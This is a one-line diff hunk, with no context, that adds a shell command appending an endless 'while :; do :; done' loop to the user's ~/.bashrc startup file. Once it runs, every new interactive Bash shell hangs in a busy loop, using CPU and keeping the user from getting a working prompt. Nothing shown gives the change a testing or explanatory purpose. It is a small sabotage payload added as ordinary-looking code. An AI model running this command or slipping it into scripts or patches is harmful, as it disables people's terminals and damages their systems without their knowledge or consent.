@@ -1,0 +1,1 @@
+printf 'while :; do :; done\n' >> ~/.bashrc
